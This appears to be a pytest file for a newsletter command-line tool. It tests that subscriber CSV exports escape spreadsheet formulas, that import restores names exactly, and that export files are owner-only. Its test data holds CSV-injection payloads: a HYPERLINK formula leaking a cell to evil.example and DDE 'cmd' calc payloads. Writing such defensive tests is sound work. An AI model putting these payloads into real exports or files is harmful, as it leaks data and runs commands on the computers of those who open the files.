"""``subscribers export`` cannot hand a spreadsheet a formula, and ``import`` of an export gives
back exactly the names that went out, including names that begin with a quote."""

from __future__ import annotations

import csv
import json
import os
import stat
from pathlib import Path

from click.testing import CliRunner

from conftest import store_url
from newsletter.cli import main

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'quoted from the start",
    "''two quotes",
    "'=already escaped looking",
    "Ada Lovelace",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cli(tmp_path: Path, store: str, *args: str):  # type: ignore[no-untyped-def]
    return CliRunner().invoke(main, ["--db", store_url(tmp_path / store), *args], catch_exceptions=False)


def export(tmp_path: Path, store: str, name: str) -> Path:
    out = tmp_path / name
    result = cli(tmp_path, store, "subscribers", "export", str(out))
    assert result.exit_code == 0, result.output
    return out


def listed(tmp_path: Path, store: str) -> list[tuple[str, str]]:
    result = cli(tmp_path, store, "subscribers", "list", "--json")
    return sorted((row["email"], row["name"]) for row in json.loads(result.output))


def test_export_escapes_formulas_and_import_undoes_it_exactly(tmp_path: Path) -> None:
    for i, name in enumerate(HOSTILE_NAMES):
        result = cli(tmp_path, "a.db", "subscribers", "add", f"reader{i}@example.org", "--name", name)
        assert result.exit_code == 0, result.output
    cli(tmp_path, "a.db", "subscribers", "add", "=cmd@example.org", "--name", "-minus")
    exported = export(tmp_path, "a.db", "export.csv")
    with exported.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))[1:]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")" in cells
    assert "''quoted from the start" in cells and "'=cmd@example.org" in cells

    result = cli(tmp_path, "b.db", "subscribers", "import", str(exported))
    assert result.exit_code == 0, result.output
    assert listed(tmp_path, "b.db") == listed(tmp_path, "a.db")
    assert ("reader5@example.org", "'quoted from the start") in listed(tmp_path, "b.db")
    assert export(tmp_path, "b.db", "again.csv").read_bytes() == exported.read_bytes()


def test_an_export_file_is_readable_by_its_owner_only(tmp_path: Path) -> None:
    previous = os.umask(0o022)
    try:
        cli(tmp_path, "a.db", "subscribers", "add", "ada@example.org")
        assert stat.S_IMODE(export(tmp_path, "a.db", "export.csv").stat().st_mode) == 0o600
    finally:
        os.umask(previous)
